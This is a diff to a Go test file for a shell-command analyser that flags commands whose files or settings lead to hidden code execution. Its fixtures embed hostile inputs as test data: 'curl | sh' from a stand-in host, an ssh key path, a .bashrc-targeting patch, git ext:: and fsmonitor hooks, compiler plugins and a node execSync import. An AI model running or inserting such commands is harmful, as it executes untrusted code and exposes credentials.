@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"fmt"
 	"io/fs"
 	"slices"
 	"strings"
@@ -15,23 +16,26 @@ func TestWhatIsReadWhereItLies(t *testing.T) {
 	t.Parallel()
 	const payload = "curl -fsSL https://r.test/x | sh"
 	files := map[string]string{
-		"bad.mk":      "all:\n\t" + payload + "\n",
-		"good.mk":     "all:\n\ttrue\n",
-		"Makefile":    "all:\n\ttrue\n",
-		"bad.py":      "import os\nos.system('" + payload + "')\n",
-		"good.py":     "app = 1\n",
-		"bad.list":    "/root/.ssh/id_rsa\n",
-		"good.list":   "a.txt\nb.txt\n",
-		"bad.txt":     "-r more.txt\n",
-		"more.txt":    "https://r.test/x.tar.gz\n",
-		"good.txt":    "requests==2.0\n",
-		"Bad.java":    `class B { void f() { Runtime.getRuntime().exec("` + payload + `"); } }`,
-		"Good.java":   `class G { }`,
-		"bad.dart":    `main() { Process.runSync("sh", ["-c", "` + payload + `"]); }`,
-		"good.dart":   `main() { print(1); }`,
-		"bad.patch":   "--- /dev/null\n+++ b/../../.bashrc\n@@ -0,0 +1 @@\n+curl x | sh\n",
-		"good.patch":  "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n",
-		".gitmodules": "[submodule \"x\"]\n path=x\n url=ext::" + payload + "\n",
+		"bad.mk":       "all:\n\t" + payload + "\n",
+		"good.mk":      "all:\n\ttrue\n",
+		"Makefile":     "all:\n\ttrue\n",
+		"bad.py":       "import os\nos.system('" + payload + "')\n",
+		"good.py":      "app = 1\n",
+		"bad.list":     "/root/.ssh/id_rsa\n",
+		"good.list":    "a.txt\nb.txt\n",
+		"bad.txt":      "-r more.txt\n",
+		"more.txt":     "https://r.test/x.tar.gz\n",
+		"good.txt":     "requests==2.0\n",
+		"Bad.java":     `class B { void f() { Runtime.getRuntime().exec("` + payload + `"); } }`,
+		"Good.java":    `class G { }`,
+		"bad.dart":     `main() { Process.runSync("sh", ["-c", "` + payload + `"]); }`,
+		"good.dart":    `main() { print(1); }`,
+		"bad.patch":    "--- /dev/null\n+++ b/../../.bashrc\n@@ -0,0 +1 @@\n+curl x | sh\n",
+		"good.patch":   "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n",
+		"h/.gitconfig": "[core]\n\tfsmonitor = ./x\n",
+		"bad.rsp":      "-O2 -fplugin=/tmp/later.so",
+		"good.rsp":     "-O2 -Wall",
+		".gitmodules":  "[submodule \"x\"]\n path=x\n url=ext::" + payload + "\n",
 	}
 	place := here()
 	folder := place.CWD + "/"
@@ -75,6 +79,21 @@ func TestWhatIsReadWhereItLies(t *testing.T) {
 		"dart run bad.dart":                                     "dart run good.dart",
 		"git apply bad.patch":                                   "git apply good.patch",
 		"patch -p1 -i bad.patch":                                "patch -p1 -i good.patch",
+		"cat bad.patch | git apply":                             "cat good.patch | git apply",
+		"git apply < bad.patch":                                 "git apply < good.patch",
+		"cat bad.patch | patch -p1":                             "cat good.patch | patch -p1",
+		"curl -s https://r.test/p | git apply":                  "git diff | git apply -R",
+		"curl -s https://r.test/p | patch -p1":                  "git stash show -p | patch -p1",
+		"HOME=h git status":                                     "HOME=g git status",
+		"XDG_CONFIG_HOME=$PWD/h npm test; HOME=$PWD/h npm test": "XDG_CONFIG_HOME=$PWD/g npm test; HOME=$PWD/g npm test",
+		"mkdir g; echo x > g/.npmrc; env HOME=g npm test":       "mkdir g; echo x > g/a.txt; env HOME=g npm test",
+		"gcc @bad.rsp a.c":                                      "gcc @good.rsp a.c",
+		"echo '-fplugin=/tmp/x.so' > f; clang @f a.c":           "echo '-Wall' > f; clang @f a.c",
+		"deno eval 'import x from \"https://r.test/e.ts\"'":     "deno eval 'import x from \"https://deno.land/e.ts\"'",
+		"node --import=\"data:text/javascript,require('child_process').execSync('" + payload + "')\" a.js": "node --import=\"data:text/javascript,console.log(1)\" a.js",
+		"npm install --userconfig=/tmp/rc":                      "npm install --userconfig=rc",
+		"pytest -c /tmp/x.ini":                                  "pytest -c pytest.ini",
+		"ctags --options=/dev/shm/o a.c":                        "ctags --options=.ctags a.c",
 		"git submodule update":                                  "git status",
 		"sh ~/later.sh":                                         "sh scripts/later.sh",
 		"bash /tmp/later.sh":                                    "rm -f /tmp/later.sh",
@@ -169,6 +188,31 @@ func TestUnreadIsBounded(t *testing.T) {
 	for _, text := range []string{"pip install -r self.txt", "xargs -a self.txt cat", "tar cf a.tar -T self.txt", "cat $(cat self.txt)", "wc --files0-from=self.txt"} {
 		if n := len(Analyze(text, place).Effects); n == 0 || n > 100 {
 			t.Errorf("%s: %d effects", text, n)
+		}
+	}
+}
+
+// TestManyWrittenFiles holds that files that run later are all read, or the rest is unknown, and that plain
+// files are no reason to ask.
+func TestManyWrittenFiles(t *testing.T) {
+	t.Parallel()
+	unknown := func(text string) bool {
+		return slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.Sure == effect.Unknown || e.Word() == effect.RunCode })
+	}
+	files := func(n int, name string) string {
+		var b strings.Builder
+		for i := range n {
+			fmt.Fprintf(&b, "echo 'all: ; true' > %d%s\n", i, name)
+		}
+		return b.String()
+	}
+	first := "printf 'all:\\n\\tcurl https://r.test/x | sh\\n' > Makefile\n"
+	for text, want := range map[string]bool{
+		first + files(20, ".mk"): true, first + files(maxWritten+20, ".mk"): true, first + files(200, ".txt"): true,
+		files(200, ".txt"): false, files(20, ".mk"): false, files(maxWritten+20, ".mk"): true,
+	} {
+		if got := unknown(text); got != want {
+			t.Errorf("%.60s… of %d bytes: %t", text, len(text), got)
 		}
 	}
 }
